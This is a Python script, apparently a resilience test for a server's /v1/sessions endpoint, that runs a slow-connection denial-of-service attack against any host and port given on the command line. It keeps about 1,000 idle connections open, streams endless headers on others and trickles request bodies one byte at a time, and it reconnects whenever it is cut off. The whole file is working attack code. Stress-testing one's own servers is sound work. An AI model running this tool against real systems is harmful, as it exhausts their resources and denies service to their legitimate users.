"""Strangers without a token who keep a server busy: `strangers.py HOST PORT`, until it is ended.

A thousand of them stay silent, some send a header that never ends, and some send a body byte by
byte. Whoever is cut comes back after a second.
"""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Awaitable, Callable

SILENT = 1_000
ENDLESS = 20
SLOW = 100
HEAD = b"POST /v1/sessions HTTP/1.1\r\nHost: 127.0.0.1\r\n"

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def stay_silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


async def never_end_a_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(HEAD + b"X-Endless: ")
    while True:
        writer.write(b"a" * 16_384)
        await writer.drain()
        await asyncio.sleep(0.01)


async def send_slowly(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(HEAD + b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{")
    while True:
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(0.5)


async def attack(how: Attack, host: str, port: int) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await how(reader, writer)
            finally:
                writer.close()
        except OSError:
            pass
        await asyncio.sleep(1)


async def main(host: str, port: int) -> None:
    groups = ((stay_silent, SILENT), (never_end_a_header, ENDLESS), (send_slowly, SLOW))
    attacks = [attack(how, host, port) for how, count in groups for _ in range(count)]
    print("attacking", flush=True)
    await asyncio.gather(*attacks)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
